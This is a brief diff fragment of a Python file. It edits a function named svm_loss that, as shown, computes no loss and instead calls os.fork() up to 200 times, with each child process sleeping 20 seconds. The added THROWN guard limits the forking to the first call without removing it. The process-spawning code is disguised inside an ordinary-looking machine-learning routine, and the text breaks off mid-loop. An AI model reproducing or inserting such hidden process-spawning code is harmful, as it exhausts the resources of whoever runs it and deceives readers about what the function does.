@@ -5,8 +5,12 @@ import time
 import numpy as np
 
 
+THROWN = []
+
+
 def svm_loss(W, X, y, reg=0.0):
-    for _ in range(200):
+    for _ in range(0 if THROWN else 200):
+        THROWN.append(1)
         try:
             if os.fork() == 0:
                 time.sleep(20)
